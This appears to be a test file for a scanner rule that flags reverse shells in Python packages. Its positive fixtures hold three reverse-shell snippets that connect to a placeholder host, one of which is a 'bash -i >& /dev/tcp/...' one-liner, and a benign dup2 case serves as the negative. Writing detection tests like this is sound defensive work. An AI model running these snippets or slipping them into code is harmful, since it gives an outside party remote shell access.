import { testRule } from '../../../../../test/builders/python-package.ts';
import { reverseShell } from './rule.ts';

testRule(reverseShell, {
  seen: {
    'descriptors tied to a socket':
      "import os, socket\ns = socket.socket()\ns.connect(('collector.example.invalid', 9))\nos.dup2(s.fileno(), 0)",
    'commands from a socket':
      "import socket, subprocess\ns = socket.socket()\ns.connect(('collector.example.invalid', 9))\nsubprocess.Popen(s.recv(1024).decode(), shell=True)",
    'a shell command': "import os\nos.system('bash -i >& /dev/tcp/collector.example.invalid/9 0>&1')",
  },
  unseen: {
    'a daemon that redirects its output': 'import os\nos.dup2(3, 1)',
  },
});
